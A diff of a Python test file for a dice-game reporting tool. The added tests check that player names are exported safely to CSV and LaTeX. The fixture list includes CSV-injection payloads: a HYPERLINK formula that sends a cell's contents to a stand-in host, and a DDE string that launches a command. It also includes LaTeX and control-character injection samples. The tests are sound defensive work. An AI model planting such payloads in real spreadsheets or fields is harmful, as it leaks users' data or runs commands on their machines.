@@ -107,7 +107,7 @@ def test_yacht_report_writes_the_tables_and_refuses_bad_names_in_one_line(tmp_pa
     (tmp_path / "a-file").write_text("")
     assert main(["report", "--db", database, "--csv", str(tmp_path / "a-file")]) == 2
     error = capsys.readouterr().err
-    assert error.count("\n") == 1 and "cannot write the tables" in error and "Traceback" not in error
+    assert error == f"yacht report: cannot write {tmp_path / 'a-file'}: it is a regular file, not a folder; give a folder path\n"
 
 
 def test_the_text_gives_the_people_s_loss_over_people_and_pooled_for_each_kind_of_choice(report):
@@ -150,3 +150,111 @@ def test_an_agent_s_loss_splits_into_its_re_roll_choices_and_its_row_choices(cho
         losses = [loss / 4 for row, loss in choices if kept(row)]
         assert getattr(greedy, key).n == len(losses)
         assert getattr(greedy, key).mean == (pytest.approx(sum(losses) / len(losses)) if losses else None)
+
+
+# -- names written by people, on their way into spreadsheets and TeX ------------------------------------------------
+
+ISSUE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "#ann", "r&c %_#xy"]
+ISSUE_NAMES += ["[100cm]", "*starred", "'quoted", "NA"]
+
+
+@pytest.fixture(scope="module")
+def named_tables(tmp_path_factory):
+    """``yacht report --csv --latex`` over imported table games, one per name of :data:`ISSUE_NAMES` (each person
+    against greedy, choosing the last legal action every time).
+    """
+    pytest.importorskip("sqlalchemy", reason="the store needs the serve extra")
+    from yacht_play import store
+    from yacht_play.cli import main
+    from yacht_play.match import Match, Player
+    from yacht_play.serve.games import GameService
+
+    folder = tmp_path_factory.mktemp("named")
+    service = GameService(store.connect(str(folder / "yacht.db")), [])
+    for seed, name in enumerate(ISSUE_NAMES, 100):
+        match = Match.new([Player(name), Player("greedy", "agent", "greedy")], seed=seed, mode="table")
+        while not match.finished:
+            if match.current.kind == "agent":
+                match.play_agent()
+            else:
+                match.play(int(np.flatnonzero(match.current.legal_mask())[-1]), 1.0)
+        assert service.import_game(match.game_record())
+    command = ["report", "--db", str(folder / "yacht.db"), "--include-imported"]
+    assert main([*command, "--csv", str(folder / "csv"), "--latex", str(folder / "t.tex")]) == 0
+    return folder
+
+
+@pytest.mark.parametrize("table, column", [("people", "name"), ("ratings", "name")])
+def test_every_name_reads_back_exactly_and_none_is_a_live_formula(named_tables, table, column):
+    path = named_tables / "csv" / f"{table}.csv"
+    names = [row[column] for row in tables.read_table(path).rows]
+    assert sorted(set(names) - {"greedy"}) == sorted(ISSUE_NAMES)
+    for line in path.read_text().splitlines():
+        if not line.startswith("#") and column == "name" and table == "people":
+            assert line.startswith('"') and line[1] not in "=+-@\t\r"  # quoted text that no spreadsheet runs
+    if table == "people":
+        pandas = pytest.importorskip("pandas")
+        frame = pandas.read_csv(path, comment="#")  # a # in a name, quoted, starts no comment: every row is there
+        assert len(frame) == len(ISSUE_NAMES) and {"#ann", "r&c %_#xy"} <= set(frame["name"])
+
+
+def test_no_latex_row_starts_with_an_optional_argument_or_a_star(named_tables):
+    text = (named_tables / "t.tex").read_text()
+    assert "{[}100cm{]} & " in text and "{*}starred & " in text
+    assert not [line for line in text.splitlines() if line.startswith(("[", "*"))]
+
+
+LATEX_OF = {"~": "\\textasciitilde{}", "\\": "\\textbackslash{}", "^": "\\^{}", "<": "$<$", ">": "$>$"}
+LATEX_OF |= {c: "{" + c + "}" for c in "[]*"} | {c: "\\" + c for c in "&%$#_{}"}
+LATEX_TOKENS = sorted(LATEX_OF.items(), key=lambda item: -len(item[1]))
+
+
+def latex_unescaped(text: str) -> str:
+    """The text ``latex.latex_escape`` was given (its control characters as their escapes); ValueError if any markup
+    is left that is not one of the escapes.
+    """
+    out, at = [], 0
+    while at < len(text):
+        char, token = next(((c, t) for c, t in LATEX_TOKENS if text.startswith(t, at)), (text[at], text[at]))
+        if token == char and char in LATEX_OF:
+            raise ValueError(f"an unescaped {char!r} at {at}")
+        out.append(char)
+        at += len(token)
+    return "".join(out)
+
+
+@given(st.text(max_size=40))
+@example("[100cm]")
+@example("*")
+@example("cr\rname\x00\x1b]0;x\x07\u202e")
+@example("\\{}$&%#_~^<>[]*")
+def test_latex_escaping_leaves_no_markup_and_no_control_character(text):
+    from yacht_env.safe_text import is_unsafe
+
+    escaped = latex.latex_escape(text)
+    assert not any(is_unsafe(char) for char in escaped)
+    assert escaped.startswith(("{[}", "{*}")) or not escaped.startswith(("[", "*"))
+    from yacht_env.safe_text import escaped_controls
+
+    assert latex_unescaped(escaped) == escaped_controls(text)  # nothing lost, nothing read as markup
+
+
+def test_a_player_filter_that_is_not_utf8_is_refused_in_one_line(tmp_path, capsys):
+    pytest.importorskip("sqlalchemy", reason="the store needs the serve extra")
+    import os
+
+    from yacht_play import store
+    from yacht_play.cli import main
+
+    database = str(tmp_path / "empty.db")
+    store.connect(database).dispose()
+    player = os.fsdecode(b"a\xffb")  # what a shell's $'a\xffb' arrives as
+    assert main(["report", "--db", database, "--player", player, "--latex", str(tmp_path / "t.tex")]) == 2
+    error = capsys.readouterr().err
+    said = "--player 'a\\udcffb': '\\udcff' is a lone surrogate, which no player's name holds (names are UTF-8 text)"
+    assert error == f"yacht report: {said}\n"
+    assert not (tmp_path / "t.tex").exists()
+    report = build_report([], Filters(player=player))
+    text = tables.csv_file_text(report, tables.tables(report)[0])  # the writers escape it anyway
+    assert "player=a\\udcffb" in text.encode("utf-8").decode()
+    assert latex.latex_escape(player) == "a\\textbackslash{}udcffb"
